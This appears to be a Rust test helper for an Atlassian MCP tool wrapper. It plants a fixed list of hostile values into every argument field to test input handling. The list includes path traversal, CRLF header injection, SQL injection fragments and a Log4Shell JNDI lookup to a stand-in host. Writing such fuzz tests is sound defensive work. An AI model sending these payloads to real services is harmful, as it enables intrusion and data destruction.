//! Values that are meant for something else than what their parameter is for, and where they are put.

use atlassian_mcp::args::Parameter;
use serde_json::{Map, Value, json};

/// What is put in; the last one is longer than anything that goes into an address.
pub fn hostile() -> impl Iterator<Item = String> {
    let long = "../".repeat(5_000);
    HOSTILE.into_iter().map(str::to_owned).chain([long])
}

const HOSTILE: [&str; 20] = [
    "..",
    "../../admin",
    "%2e%2e",
    "..%2F..%2Fadmin",
    "a%2Fb",
    "/",
    "//evil.example/x",
    "a\\..\\b",
    "?expand=all&x=1",
    "a#b",
    "a;b=c",
    "\0",
    "a\r\nX-Evil: 1",
    "\u{202e}a\u{200b}b\u{feff}",
    "．．／ａ",
    "\" OR 1 = 1 ORDER BY key --",
    "'); DROP",
    "${jndi:ldap://evil.example/x}{{7*7}}",
    "@evil.example:80",
    "%00",
];

/// The arguments with the value in one place after the other: each value of them, and each of the other
/// parameters, there as it is, in a list and in an object.
pub fn planted(
    base: &Map<String, Value>,
    others: &[Parameter],
    hostile: &str,
) -> Vec<Map<String, Value>> {
    let whole = Value::Object(base.clone());
    let mut places = Vec::new();
    leaves(&whole, String::new(), &mut places);
    let in_leaves = places.into_iter().filter_map(|place| {
        let mut changed = whole.clone();
        *changed.pointer_mut(&place)? = json!(hostile);
        changed.as_object().cloned()
    });
    let others = others
        .iter()
        .filter(|parameter| !base.contains_key(parameter.name));
    let in_others = others.flat_map(|parameter| {
        [
            json!(hostile),
            json!([hostile]),
            json!({ hostile: hostile }),
        ]
        .map(|value| {
            let mut more = base.clone();
            more.insert(parameter.name.to_owned(), value);
            more
        })
    });
    in_leaves.chain(in_others).collect()
}

/// Where the values are that hold no others, as JSON pointers.
fn leaves(value: &Value, at: String, places: &mut Vec<String>) {
    let below = |name: &str| format!("{at}/{}", name.replace('~', "~0").replace('/', "~1"));
    match value {
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                leaves(item, below(&index.to_string()), places);
            }
        }
        Value::Object(members) => {
            for (name, member) in members {
                leaves(member, below(name), places);
            }
        }
        _ => places.push(at),
    }
}
